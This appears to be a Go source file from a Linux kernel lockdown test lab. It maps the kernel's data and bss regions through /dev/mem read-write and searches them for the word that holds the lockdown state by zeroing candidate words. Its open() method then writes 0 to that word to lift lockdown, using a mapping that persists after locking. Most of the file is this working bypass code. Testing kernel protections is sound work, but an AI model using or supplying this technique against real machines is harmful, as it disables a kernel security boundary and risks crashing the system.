// Package race runs writers of lockdown's files at once, round after round.
package race

import (
	"fmt"
	"math/bits"
	"os"
	"strings"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/ldlab/ldlab/lockdown"
)

// A state is the word in which the kernel keeps what is locked, mapped from
// /dev/mem before anything was locked: lockdown does not take such a mapping back
// (the gap kept/devmem-map). Storing 0 opens everything again.
type state struct{ word *uint32 }

func (s state) open() { atomic.StoreUint32(s.word, 0) }

// findState finds the word. The kernels of the lab have no symbols of data, so it
// looks for the word that locking changes, and whose restoration shows in the level
// file.
func findState() (s state, err error) {
	areas, err := mapData()
	if err != nil {
		return s, err
	}
	before := make([][]uint32, len(areas))
	for i, a := range areas {
		before[i] = append([]uint32(nil), a...)
	}
	if err := write(lockdown.LevelFile, lockdown.Integrity.String()); err != nil {
		return s, err
	}
	locked, err := os.ReadFile(lockdown.LevelFile)
	if err != nil {
		return s, err
	}
	for i, a := range areas {
		for j := range a {
			v := atomic.LoadUint32(&a[j])
			if before[i][j] != 0 || !likely(v) {
				continue
			}
			atomic.StoreUint32(&a[j], 0)
			if now, err := os.ReadFile(lockdown.LevelFile); err == nil && string(now) != string(locked) && !strings.Contains(string(now), "["+lockdown.Integrity.String()+"]") {
				return state{&a[j]}, nil
			}
			atomic.StoreUint32(&a[j], v)
		}
	}
	return s, fmt.Errorf("no word of the kernel's data is the state of lockdown")
}

// likely reports whether the word may be the state that integrity is: the number of
// the level, or a bit for each of its reasons and perhaps its own. There were 19
// reasons in 5.4, and 20 in 7.3. Other words must not be touched: half of a pointer
// that is overwritten for a moment ends the kernel.
func likely(v uint32) bool {
	ones := v | 1
	return v >= 19 && v <= 24 || ones&(ones+1) == 0 && bits.Len32(v) >= 19 && bits.Len32(v) <= 25
}

// mapData maps what /proc/iomem calls the kernel's data.
func mapData() (areas [][]uint32, err error) {
	text, err := os.ReadFile("/proc/iomem")
	if err != nil {
		return nil, err
	}
	fd, err := unix.Open("/dev/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, fmt.Errorf("open /dev/mem: %w", err)
	}
	defer unix.Close(fd)
	for line := range strings.Lines(string(text)) {
		var from, to int64
		var name string
		if _, err := fmt.Sscanf(strings.TrimSpace(line), "%x-%x : Kernel %s", &from, &to, &name); err != nil || name != "data" && name != "bss" {
			continue
		}
		from &^= int64(os.Getpagesize() - 1)
		b, err := unix.Mmap(fd, from, int(to-from), unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
		if err != nil {
			return nil, fmt.Errorf("map %#x of /dev/mem: %w", from, err)
		}
		areas = append(areas, unsafe.Slice((*uint32)(unsafe.Pointer(&b[0])), len(b)/4))
	}
	if len(areas) == 0 {
		return nil, fmt.Errorf("/proc/iomem has no kernel data")
	}
	return areas, nil
}

// write writes a command with one write(2).
func write(file, data string) error {
	fd, err := unix.Open(file, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open %s: %w", file, err)
	}
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte(data)); err != nil {
		return fmt.Errorf("write %s: %w", file, err)
	}
	return nil
}
